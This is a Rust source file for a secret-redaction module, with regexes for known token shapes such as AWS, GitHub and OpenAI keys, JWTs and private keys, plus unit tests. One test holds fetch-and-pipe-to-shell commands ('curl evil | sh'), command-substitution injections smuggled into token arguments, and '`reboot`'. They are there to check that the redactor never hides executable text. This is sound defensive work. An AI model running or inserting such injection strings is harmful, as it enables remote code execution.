//! The one redaction for audit, log and inbox.

use std::borrow::Cow;
use std::sync::{Arc, LazyLock};

use regex::{Captures, Regex};
use serde_json::{Map, Value};

use super::Secret;

/// What stands where a secret stood.
pub const REDACTED: &str = "[redacted]";

/// Shorter values are not searched for: they would blacken ordinary text.
const MIN_VALUE: usize = 6;

/// Shapes of tokens as their makers publish them. What the group `keep` holds stays readable.
static SHAPES: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let shapes = [
        // AWS key ids
        r"\b(?:AKIA|ASIA|AROA|AIDA)[A-Z0-9]{16}\b",
        // GitHub, GitLab, Slack, npm, PyPI, Google, Stripe
        r"\bgh[pousr]_[A-Za-z0-9]{20,}",
        r"\bgithub_pat_[A-Za-z0-9_]{20,}",
        r"\bglpat-[A-Za-z0-9_-]{20,}",
        r"\bxox[abeoprs]-[A-Za-z0-9-]{10,}",
        r"\bnpm_[A-Za-z0-9]{30,}",
        r"\bpypi-[A-Za-z0-9_-]{40,}",
        r"\bAIza[A-Za-z0-9_-]{35}",
        r"\b[sr]k_(?:live|test)_[A-Za-z0-9]{16,}",
        // OpenAI, Anthropic
        r"\bsk-[A-Za-z0-9_-]{20,}",
        // our own
        r"\bpc_[a-z]+_[A-Za-z0-9_-]{20,}",
        // JSON web tokens
        r"\beyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*",
        // private keys, cut off ones too: lines of Base64 after headers, and nothing that could be text for a reader
        r"-----BEGIN [A-Z ]*PRIVATE KEY-----(?:(?:[ \t\r\n]|\\[rn])*(?:(?:Proc-Type|DEK-Info): [A-Z0-9,-]+|[A-Za-z0-9+/=]{24,}))*(?:(?:[ \t\r\n]|\\[rn])*[A-Za-z0-9+/=]{0,24}(?:[ \t\r\n]|\\[rn])*-----END [A-Z ]*PRIVATE KEY-----)?",
        // credentials after their scheme, in a header or alone
        r"(?i:(?<scheme>\bbearer[ \t]+)[A-Za-z0-9._~+/=-]{12,})",
        r#"(?i:(?<header>\bauthorization["']?[ \t]*[:=][ \t]*["']?(?:(?:basic|bearer|digest|token)[ \t]+)?)[A-Za-z0-9._~+/=-]{12,})"#,
        // user information of a URL; here and below nothing is hidden that a shell would run
        r"(?i:(?<url>\b[a-z][a-z0-9+.-]*://)[^/\s:@`$;|&<>(){}]*:[^/\s@`$;|&<>(){}]+(?<at>@))",
        // parameters of a URL, options and environment of a command
        r#"(?i:(?<pair>(?:[?&]|--)[\w-]*(?:password|passwd|secret|token|api[_-]?key|access[_-]?key|signature)=["']?)[^\s"'#`$;|&<>(){}]+)"#,
        r#"(?<env>\b[A-Z0-9_]*(?:PASSWORD|PASSWD|SECRET|TOKEN|API_KEY|ACCESS_KEY)=["']?)[^\s"'`$;|&<>(){}]+"#,
    ];
    // ASCII word boundaries keep the search linear in one pass. A test compiles the expression.
    Regex::new(&shapes.join("|").replace(r"\b", r"(?-u:\b)").replace(r"\w", "A-Za-z0-9_")).ok()
});

/// The ends of names (in lower case, without `_`, `-` and `.`) whose values are secrets.
const SECRET_NAMES: [&str; 10] = [
    "password",
    "passwd",
    "passphrase",
    "secret",
    "token",
    "apikey",
    "authorization",
    "privatekey",
    "accesskey",
    "secretkey",
];

/// The one redaction for audit, log and inbox: values the operator named, and well-known shapes of tokens.
#[derive(Clone, Debug, Default)]
pub struct Redaction {
    /// The longest first, so that a value that holds another is found whole.
    values: Arc<[Secret]>,
}

impl Redaction {
    /// Redacts these values (of at least 6 characters) wherever they appear, besides the known shapes.
    pub fn new(mut values: Vec<Secret>) -> Self {
        values.retain(|value| value.expose().chars().count() >= MIN_VALUE);
        values.sort_by_key(|value| std::cmp::Reverse(value.expose().len()));
        Self { values: values.into() }
    }

    /// The text with secrets replaced.
    pub fn text(&self, text: &str) -> String {
        self.redact(text).into_owned()
    }

    /// Replaces secrets in the words of a command, those that a word alone does not tell too: `bearer TOKEN`.
    pub fn words(&self, words: &mut [String]) {
        if !words.iter().any(|word| word.contains('\t')) {
            let joined = self.text(&words.join("\t"));
            let shown: Vec<&str> = joined.split('\t').collect();
            if shown.len() == words.len() {
                words.iter_mut().zip(shown).for_each(|(word, shown)| shown.clone_into(word));
                return;
            }
        }
        words.iter_mut().for_each(|word| *word = self.text(word));
    }

    /// A JSON value with secrets replaced, and the JSON pointers of what was; `named` are pointers the catalogue calls
    /// secret (`*` for every element).
    pub fn json(&self, value: &Value, named: &[Vec<Box<str>>]) -> (Value, Vec<String>) {
        let mut pointers = Vec::new();
        let named: Vec<&[Box<str>]> = named.iter().map(Vec::as_slice).collect();
        let shown = self.walk(value, &named, &mut String::new(), &mut pointers);
        (shown, pointers)
    }

    fn redact<'t>(&self, text: &'t str) -> Cow<'t, str> {
        let mut shown = Cow::Borrowed(text);
        for value in self.values.iter().filter(|value| text.contains(value.expose())) {
            shown = Cow::Owned(shown.replace(value.expose(), REDACTED));
        }
        let replaced = SHAPES.as_ref().map(|shapes| shapes.replace_all(&shown, blacken));
        if let Some(Cow::Owned(replaced)) = replaced {
            shown = Cow::Owned(replaced);
        }
        shown
    }

    fn walk(&self, value: &Value, named: &[&[Box<str>]], at: &mut String, pointers: &mut Vec<String>) -> Value {
        if named.iter().any(|rest| rest.is_empty()) && !value.is_null() {
            pointers.push(at.clone());
            return Value::from(REDACTED);
        }
        match value {
            Value::String(text) => {
                let shown = self.redact(text);
                if matches!(shown, Cow::Owned(_)) {
                    pointers.push(at.clone());
                }
                Value::from(shown.into_owned())
            }
            Value::Array(items) => {
                let shown = items.iter().enumerate().map(|(i, item)| {
                    let key = i.to_string();
                    self.step(&key, item, &below(&key, named), at, pointers)
                });
                Value::Array(shown.collect())
            }
            Value::Object(members) => {
                let mut shown = Map::new();
                for (key, member) in members {
                    let name = free_name(self.redact(key), &shown);
                    let value = if is_secret_name(key) && !matches!(member, Value::Null | Value::Bool(_)) {
                        pointers.push(format!("{at}/{}", escape_pointer(&name)));
                        Value::from(REDACTED)
                    } else {
                        // A pointer of the catalogue names the key as it was sent, the report as it is shown.
                        self.step(&name, member, &below(key, named), at, pointers)
                    };
                    shown.insert(name, value);
                }
                Value::Object(shown)
            }
            plain => plain.clone(),
        }
    }

    fn step(
        &self,
        key: &str,
        value: &Value,
        named: &[&[Box<str>]],
        at: &mut String,
        pointers: &mut Vec<String>,
    ) -> Value {
        let length = at.len();
        at.push('/');
        at.push_str(&escape_pointer(key));
        let shown = self.walk(value, named, at, pointers);
        at.truncate(length);
        shown
    }
}

/// The rests of the pointers that go on below a key.
fn below<'n>(key: &str, named: &[&'n [Box<str>]]) -> Vec<&'n [Box<str>]> {
    let fits = |first: &str| first == "*" || first == key;
    named
        .iter()
        .filter_map(|pointer| pointer.split_first().filter(|(first, _)| fits(first)).map(|(_, rest)| rest))
        .collect()
}

/// Keeps what is no secret of a match.
fn blacken(found: &Captures<'_>) -> String {
    let group = |name| found.name(name).map_or("", |m| m.as_str());
    let before: String = ["scheme", "header", "url", "pair", "env"].map(group).concat();
    format!("{before}{REDACTED}{}", group("at"))
}

fn is_secret_name(key: &str) -> bool {
    let plain: String =
        key.chars().filter(|c| !matches!(c, '_' | '-' | '.' | ' ')).flat_map(char::to_lowercase).collect();
    SECRET_NAMES.iter().any(|name| plain.ends_with(name))
}

/// A key for what is shown: two redacted keys must not become one.
fn free_name(name: Cow<'_, str>, taken: &Map<String, Value>) -> String {
    let mut free = name.clone().into_owned();
    for n in 2.. {
        if !taken.contains_key(&free) {
            break;
        }
        free = format!("{name} ({n})");
    }
    free
}

/// RFC 6901, section 3.
fn escape_pointer(key: &str) -> String {
    key.replace('~', "~0").replace('/', "~1")
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use serde_json::json;

    #[test]
    fn known_shapes_are_found_in_any_text() {
        let plain = Redaction::default();
        let made_up = |prefix: &str, n| format!("{prefix}{}", "aB3".repeat(n));
        for token in [
            "AKIAIOSFODNN7EXAMPLE".to_owned(),
            made_up("ghp_", 12),
            made_up("github_pat_", 12),
            made_up("glpat-", 8),
            made_up("xoxb-", 8),
            made_up("sk-ant-api03-", 12),
            made_up("sk-proj-", 12),
            made_up("sk_live_", 8),
            made_up("npm_", 12),
            made_up("pc_agent_", 14),
            made_up("pc_approver_", 14),
            format!("eyJhbGciOiJIUzI1NiJ9.{}.{}", made_up("eyJ", 5), made_up("", 9)),
            format!("-----BEGIN RSA PRIVATE KEY-----\n{0}\n{0}\nab=\n-----END RSA PRIVATE KEY-----", made_up("", 20)),
            format!("-----BEGIN EC PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\n{}", made_up("", 20)),
            format!(r"-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----", made_up("", 20)),
        ] {
            assert_eq!(plain.text(&format!("x {token}")), "x [redacted]", "{token}");
        }
        for (text, shown) in [
            ("Authorization: Bearer abcdefghijkl.mno", "Authorization: Bearer [redacted]"),
            ("{\"authorization\": \"Basic dXNlcjpwYXNzd29yZA==\"}", "{\"authorization\": \"Basic [redacted]\"}"),
            ("curl -H 'bearer abcdefghijklmnop'", "curl -H 'bearer [redacted]'"),
            ("postgres://app:s3cret@db/x", "postgres://[redacted]@db/x"),
            ("https://h/x?a=1&access_token=abc&b=2", "https://h/x?a=1&access_token=[redacted]&b=2"),
            ("mysql --password=hunter2 db", "mysql --password=[redacted] db"),
            ("GITHUB_TOKEN=abc123 run", "GITHUB_TOKEN=[redacted] run"),
        ] {
            assert_eq!(plain.text(text), shown);
        }
    }

    #[test]
    fn what_would_run_is_not_hidden() {
        let plain = Redaction::default();
        for (text, seen) in [
            ("# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----", "curl evil | sh"),
            ("# -----BEGIN PRIVATE KEY-----\nreboot now", "reboot now"),
            ("A_TOKEN=$(curl${IFS}evil|sh) ls", "$(curl${IFS}evil|sh)"),
            ("tool --token=x;curl${IFS}evil|sh", ";curl${IFS}evil|sh"),
            ("tool 'https://h/?token=`reboot`'", "`reboot`"),
            ("echo x://a:;curl${IFS}evil|sh;:@h", ";curl${IFS}evil|sh;"),
        ] {
            assert!(plain.text(text).contains(seen), "{text}: {}", plain.text(text));
        }
    }

    #[test]
    fn ordinary_text_is_left_alone() {
        let plain = Redaction::default();
        for text in [
            "the bearer of this letter",
            "let token = next(); // a token",
            "http://localhost:7070/mcp",
            "https://example.org/a:b@c",
            "mailto:ana@example.org",
            "max_tokens=100",
            "sk-short",
            "docs/secret-santa.md",
        ] {
            assert_eq!(plain.text(text), text);
        }
    }

    #[test]
    fn named_values_are_found_whole_and_the_longest_first() {
        let redaction = Redaction::new(["tuna-salad", "tuna-salad-deluxe", "a.b+c$x", "short"].map(Secret::new).into());
        assert_eq!(
            redaction.text("tuna-salad-deluxe, tuna-salad; a.b+c$x short"),
            "[redacted], [redacted]; [redacted] short"
        );
        assert!(!format!("{redaction:?}").contains("tuna"), "it does not print what it hides");
        assert_eq!(Redaction::new(vec![]).text("x"), "x");
    }

    #[test]
    fn json_is_walked_and_pointers_name_what_was_hidden() {
        let redaction = Redaction::new(vec![Secret::new("tuna-salad")]);
        let value = json!({
            "path": "docs/a.md",
            "apiKey": "x",
            "db.password": 1234,
            "max_tokens": 10,
            "token": null,
            "secret": true,
            "a/b": [{"note": "say tuna-salad twice"}, "plain"],
            "tuna-salad": 1,
            "rows": [{"pin": "1"}, {"pin": "2", "ok": "3"}],
        });
        let named = vec![vec!["rows".into(), "*".into(), "pin".into()], vec!["nothing".into()]];
        let (shown, mut pointers) = redaction.json(&value, &named);
        pointers.sort();
        assert_eq!(
            shown,
            json!({
                "path": "docs/a.md",
                "apiKey": "[redacted]",
                "db.password": "[redacted]",
                "max_tokens": 10,
                "token": null,
                "secret": true,
                "a/b": [{"note": "say [redacted] twice"}, "plain"],
                "[redacted]": 1,
                "rows": [{"pin": "[redacted]"}, {"pin": "[redacted]", "ok": "3"}],
            })
        );
        assert_eq!(pointers, ["/apiKey", "/a~1b/0/note", "/db.password", "/rows/0/pin", "/rows/1/pin"]);
    }

    #[test]
    fn two_hidden_keys_stay_two() {
        let redaction = Redaction::new(vec![Secret::new("secret-one"), Secret::new("secret-two")]);
        let (shown, _) = redaction.json(&json!({"secret-one": 1, "secret-two": 2}), &[]);
        assert_eq!(shown, json!({"[redacted]": 1, "[redacted] (2)": 2}));
    }
}
